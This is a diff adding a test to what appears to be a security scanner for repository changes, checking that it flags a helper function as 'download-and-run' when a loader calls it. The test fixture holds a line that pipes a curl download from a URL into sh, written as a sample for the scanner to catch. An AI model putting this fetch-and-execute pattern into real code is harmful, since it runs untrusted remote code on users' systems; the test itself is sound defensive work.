@@ -136,3 +136,24 @@ def test_a_file_that_moves_and_changes_is_a_new_one(repo: Path) -> None:
     result = scan(base, fail_on_existing="false")
     assert set(known(result)["production.pkl"]) == {None}
     assert result.exit_code == 1
+
+
+HELPER = b"import os\ndef fetch(url):\n    os.system('curl ' + url + ' | sh')\n"
+
+
+def test_a_helper_that_alone_is_changed(repo: Path) -> None:
+    """It only defines something; the loader that calls it is as it was."""
+    loader = b"from .tools.helper import fetch\nfetch('https://data.example/x')\n"
+    files = {"corpus/loader.py": loader, "corpus/tools/__init__.py": b"", "readme": b""}
+    base = commit(repo, {**files, "corpus/tools/helper.py": b"def fetch(url):\n    return url\n"})
+    commit(repo, {"corpus/tools/helper.py": HELPER})
+    (report,) = scan(base).reports
+    (finding,) = [finding for finding in report.findings if finding.severity is Severity.ERROR]
+    assert (report.path, finding.rule, finding.existing) == (
+        "corpus/tools/helper.py",
+        "download-and-run",
+        None,
+    )
+    assert "corpus/loader.py" in {step.site.path for step in finding.steps}
+    commit(repo, {"corpus/loader.py": b"VERSION = 1\n"})
+    assert scan(base).exit_code == 0
